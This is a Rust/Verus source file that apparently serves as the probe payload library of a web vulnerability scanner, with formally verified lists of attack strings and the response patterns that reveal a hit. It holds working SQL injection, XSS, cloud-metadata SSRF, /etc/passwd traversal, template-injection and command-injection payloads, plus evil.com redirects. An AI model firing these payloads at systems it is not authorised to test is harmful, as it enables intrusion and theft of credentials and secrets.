//! Probe payloads of each vulnerability class, with the response substrings
//! that reveal a hit.
use vstd::prelude::*;
use crate::types::{VulnKind, VulnerabilityType};

verus! {

/// One payload: the injected value, what it tries, and the substrings whose
/// presence in a response reveals a hit (none for timing-only payloads).
pub struct Payload {
    pub value: String,
    pub description: String,
    pub detection_patterns: Vec<String>,
}

pub open spec fn strings_view(v: Seq<String>) -> Seq<Seq<char>> {
    v.map_values(|s: String| s@)
}

pub open spec fn strs_view(v: Seq<&str>) -> Seq<Seq<char>> {
    v.map_values(|s: &str| s@)
}

/// Mathematical form of a payload.
pub ghost struct PayloadView {
    pub value: Seq<char>,
    pub description: Seq<char>,
    pub patterns: Seq<Seq<char>>,
}

impl View for Payload {
    type V = PayloadView;

    open spec fn view(&self) -> PayloadView {
        PayloadView {
            value: self.value@,
            description: self.description@,
            patterns: strings_view(self.detection_patterns@),
        }
    }
}

pub open spec fn payloads_view(v: Seq<Payload>) -> Seq<PayloadView> {
    v.map_values(|p: Payload| p@)
}

pub open spec fn payload_values(v: Seq<Payload>) -> Seq<Seq<char>> {
    v.map_values(|p: Payload| p.value@)
}

/// Copies a list of string slices into owned strings.
pub fn to_strings(v: &Vec<&str>) -> (r: Vec<String>)
    ensures
        strings_view(r@) == strs_view(v@),
{
    let mut out: Vec<String> = Vec::new();
    let mut i: usize = 0;
    while i < v.len()
        invariant
            0 <= i <= v.len(),
            strings_view(out@) == strs_view(v@).subrange(0, i as int),
        decreases v.len() - i,
    {
        let ghost prev = out@;
        out.push(String::from_str(v[i]));
        assert(strings_view(out@) =~= strings_view(prev).push(v@[i as int]@));
        assert(strs_view(v@).subrange(0, i + 1) =~= strs_view(v@).subrange(0, i as int).push(v@[i as int]@));
        i += 1;
    }
    assert(strs_view(v@).subrange(0, v.len() as int) =~= strs_view(v@));
    out
}

impl Payload {
    pub fn new(value: &str, description: &str, patterns: Vec<&str>) -> (r: Payload)
        ensures
            r@ == (PayloadView { value: value@, description: description@, patterns: strs_view(patterns@) }),
    {
        Payload {
            value: String::from_str(value),
            description: String::from_str(description),
            detection_patterns: to_strings(&patterns),
        }
    }

    /// A copy with the same mathematical value.
    pub fn duplicate(&self) -> (r: Payload)
        ensures
            r@ == self@,
    {
        let mut pats: Vec<String> = Vec::new();
        let mut i: usize = 0;
        while i < self.detection_patterns.len()
            invariant
                0 <= i <= self.detection_patterns.len(),
                strings_view(pats@) == strings_view(self.detection_patterns@).subrange(0, i as int),
            decreases self.detection_patterns.len() - i,
        {
            let ghost prev = pats@;
            pats.push(self.detection_patterns[i].clone());
            assert(strings_view(pats@) =~= strings_view(prev).push(self.detection_patterns@[i as int]@));
            i += 1;
        }
        assert(strings_view(self.detection_patterns@).subrange(0, i as int) =~= strings_view(
            self.detection_patterns@,
        ));
        Payload { value: self.value.clone(), description: self.description.clone(), detection_patterns: pats }
    }
}

/// Values of the sqli payloads, in order.
pub open spec fn sqli_values() -> Seq<Seq<char>> {
    seq!["' OR '1'='1"@, "' OR 1=1--"@, "' UNION SELECT NULL--"@, "1' AND SLEEP(5)--"@, "admin'--"@]
}

/// Values of the xss payloads, in order.
pub open spec fn xss_values() -> Seq<Seq<char>> {
    seq!["<script>alert('XSS')</script>"@, "<img src=x onerror=alert('XSS')>"@, "'\"><script>alert(String.fromCharCode(88,83,83))</script>"@, "<svg/onload=alert('XSS')>"@, "javascript:alert('XSS')"@]
}

/// Values of the ssrf payloads, in order.
pub open spec fn ssrf_values() -> Seq<Seq<char>> {
    seq!["http://127.0.0.1"@, "http://localhost"@, "http://169.254.169.254/latest/meta-data/"@, "file:///etc/passwd"@, "http://metadata.google.internal/"@]
}

/// Values of the lfi payloads, in order.
pub open spec fn lfi_values() -> Seq<Seq<char>> {
    seq!["../../../etc/passwd"@, "....//....//....//etc/passwd"@, "/etc/passwd"@, "../../../windows/win.ini"@]
}

/// Values of the ssti payloads, in order.
pub open spec fn ssti_values() -> Seq<Seq<char>> {
    seq!["{{7*7}}"@, "${7*7}"@, "{{config}}"@, "<%= 7*7 %>"@]
}

/// Values of the command injection payloads, in order.
pub open spec fn command_injection_values() -> Seq<Seq<char>> {
    seq!["; ls -la"@, "| whoami"@, "`whoami`"@, "$(whoami)"@, "&& id"@]
}

/// Values of the open redirect payloads, in order.
pub open spec fn open_redirect_values() -> Seq<Seq<char>> {
    seq!["https://evil.com"@, "//evil.com"@, "/\\evil.com"@]
}

/// The payloads of one vulnerability class.
pub struct PayloadSet {
    pub vuln_type: VulnerabilityType,
    pub payloads: Vec<Payload>,
}

impl PayloadSet {
    pub fn for_sqli() -> (r: PayloadSet)
        ensures
            r.vuln_type@ == VulnKind::SQLInjection,
            payload_values(r.payloads@) == sqli_values(),
    {
        let mut payloads: Vec<Payload> = Vec::new();
        payloads.push(Payload::new("' OR '1'='1", "Classic SQLi boolean-based", vec!["sql", "syntax", "mysql", "postgresql", "sqlite", "oracle"]));
        payloads.push(Payload::new("' OR 1=1--", "SQLi with comment", vec!["sql", "error"]));
        payloads.push(Payload::new("' UNION SELECT NULL--", "UNION-based SQLi", vec!["union", "select"]));
        payloads.push(Payload::new("1' AND SLEEP(5)--", "Time-based blind SQLi", vec![]));
        payloads.push(Payload::new("admin'--", "Authentication bypass", vec![]));
        assert(payload_values(payloads@) =~= seq!["' OR '1'='1"@, "' OR 1=1--"@, "' UNION SELECT NULL--"@, "1' AND SLEEP(5)--"@, "admin'--"@]);
        PayloadSet { vuln_type: VulnerabilityType::SQLInjection, payloads }
    }

    pub fn for_xss() -> (r: PayloadSet)
        ensures
            r.vuln_type@ == VulnKind::XSS,
            payload_values(r.payloads@) == xss_values(),
    {
        let mut payloads: Vec<Payload> = Vec::new();
        payloads.push(Payload::new("<script>alert('XSS')</script>", "Basic XSS", vec!["<script>", "alert"]));
        payloads.push(Payload::new("<img src=x onerror=alert('XSS')>", "Image-based XSS", vec!["<img", "onerror"]));
        payloads.push(Payload::new("'\"><script>alert(String.fromCharCode(88,83,83))</script>", "Encoded XSS", vec!["<script>"]));
        payloads.push(Payload::new("<svg/onload=alert('XSS')>", "SVG-based XSS", vec!["<svg", "onload"]));
        payloads.push(Payload::new("javascript:alert('XSS')", "Protocol-based XSS", vec!["javascript:"]));
        assert(payload_values(payloads@) =~= seq!["<script>alert('XSS')</script>"@, "<img src=x onerror=alert('XSS')>"@, "'\"><script>alert(String.fromCharCode(88,83,83))</script>"@, "<svg/onload=alert('XSS')>"@, "javascript:alert('XSS')"@]);
        PayloadSet { vuln_type: VulnerabilityType::XSS, payloads }
    }

    pub fn for_ssrf() -> (r: PayloadSet)
        ensures
            r.vuln_type@ == VulnKind::SSRF,
            payload_values(r.payloads@) == ssrf_values(),
    {
        let mut payloads: Vec<Payload> = Vec::new();
        payloads.push(Payload::new("http://127.0.0.1", "Localhost SSRF", vec![]));
        payloads.push(Payload::new("http://localhost", "Localhost name SSRF", vec![]));
        payloads.push(Payload::new("http://169.254.169.254/latest/meta-data/", "AWS metadata SSRF", vec!["ami-id", "instance-id"]));
        payloads.push(Payload::new("file:///etc/passwd", "File protocol SSRF", vec!["root:", "/bin/"]));
        payloads.push(Payload::new("http://metadata.google.internal/", "GCP metadata SSRF", vec![]));
        assert(payload_values(payloads@) =~= seq!["http://127.0.0.1"@, "http://localhost"@, "http://169.254.169.254/latest/meta-data/"@, "file:///etc/passwd"@, "http://metadata.google.internal/"@]);
        PayloadSet { vuln_type: VulnerabilityType::SSRF, payloads }
    }

    pub fn for_lfi() -> (r: PayloadSet)
        ensures
            r.vuln_type@ == VulnKind::LFI,
            payload_values(r.payloads@) == lfi_values(),
    {
        let mut payloads: Vec<Payload> = Vec::new();
        payloads.push(Payload::new("../../../etc/passwd", "Basic path traversal", vec!["root:", "/bin/bash"]));
        payloads.push(Payload::new("....//....//....//etc/passwd", "Double encoding traversal", vec!["root:"]));
        payloads.push(Payload::new("/etc/passwd", "Absolute path", vec!["root:"]));
        payloads.push(Payload::new("../../../windows/win.ini", "Windows file inclusion", vec!["[fonts]", "[extensions]"]));
        assert(payload_values(payloads@) =~= seq!["../../../etc/passwd"@, "....//....//....//etc/passwd"@, "/etc/passwd"@, "../../../windows/win.ini"@]);
        PayloadSet { vuln_type: VulnerabilityType::LFI, payloads }
    }

    pub fn for_ssti() -> (r: PayloadSet)
        ensures
            r.vuln_type@ == VulnKind::SSTI,
            payload_values(r.payloads@) == ssti_values(),
    {
        let mut payloads: Vec<Payload> = Vec::new();
        payloads.push(Payload::new("{{7*7}}", "Jinja2/Twig math eval", vec!["49"]));
        payloads.push(Payload::new("${7*7}", "Freemarker math eval", vec!["49"]));
        payloads.push(Payload::new("{{config}}", "Flask config leak", vec!["SECRET_KEY", "DEBUG"]));
        payloads.push(Payload::new("<%= 7*7 %>", "ERB template eval", vec!["49"]));
        assert(payload_values(payloads@) =~= seq!["{{7*7}}"@, "${7*7}"@, "{{config}}"@, "<%= 7*7 %>"@]);
        PayloadSet { vuln_type: VulnerabilityType::SSTI, payloads }
    }

    pub fn for_command_injection() -> (r: PayloadSet)
        ensures
            r.vuln_type@ == VulnKind::CommandInjection,
            payload_values(r.payloads@) == command_injection_values(),
    {
        let mut payloads: Vec<Payload> = Vec::new();
        payloads.push(Payload::new("; ls -la", "Command chaining", vec!["total", "drwx"]));
        payloads.push(Payload::new("| whoami", "Pipe command", vec![]));
        payloads.push(Payload::new("`whoami`", "Backtick command substitution", vec![]));
        payloads.push(Payload::new("$(whoami)", "Dollar command substitution", vec![]));
        payloads.push(Payload::new("&& id", "AND command chaining", vec!["uid=", "gid="]));
        assert(payload_values(payloads@) =~= seq!["; ls -la"@, "| whoami"@, "`whoami`"@, "$(whoami)"@, "&& id"@]);
        PayloadSet { vuln_type: VulnerabilityType::CommandInjection, payloads }
    }

    pub fn for_open_redirect() -> (r: PayloadSet)
        ensures
            r.vuln_type@ == VulnKind::OpenRedirect,
            payload_values(r.payloads@) == open_redirect_values(),
    {
        let mut payloads: Vec<Payload> = Vec::new();
        payloads.push(Payload::new("https://evil.com", "Direct external redirect", vec![]));
        payloads.push(Payload::new("//evil.com", "Protocol-relative redirect", vec![]));
        payloads.push(Payload::new("/\\evil.com", "Backslash bypass", vec![]));
        assert(payload_values(payloads@) =~= seq!["https://evil.com"@, "//evil.com"@, "/\\evil.com"@]);
        PayloadSet { vuln_type: VulnerabilityType::OpenRedirect, payloads }
    }

}

/// The payload sets of every class, in the order sqli, xss, ssrf, lfi, ssti,
/// command injection, open redirect.
pub fn get_all_payloads() -> (r: Vec<PayloadSet>)
    ensures
        r@.map_values(|s: PayloadSet| s.vuln_type@) == seq![
            VulnKind::SQLInjection,
            VulnKind::XSS,
            VulnKind::SSRF,
            VulnKind::LFI,
            VulnKind::SSTI,
            VulnKind::CommandInjection,
            VulnKind::OpenRedirect,
        ],
{
    let mut all: Vec<PayloadSet> = Vec::new();
    all.push(PayloadSet::for_sqli());
    all.push(PayloadSet::for_xss());
    all.push(PayloadSet::for_ssrf());
    all.push(PayloadSet::for_lfi());
    all.push(PayloadSet::for_ssti());
    all.push(PayloadSet::for_command_injection());
    all.push(PayloadSet::for_open_redirect());
    assert(all@.map_values(|s: PayloadSet| s.vuln_type@) =~= seq![
        VulnKind::SQLInjection,
        VulnKind::XSS,
        VulnKind::SSRF,
        VulnKind::LFI,
        VulnKind::SSTI,
        VulnKind::CommandInjection,
        VulnKind::OpenRedirect,
    ]);
    all
}

} // verus!
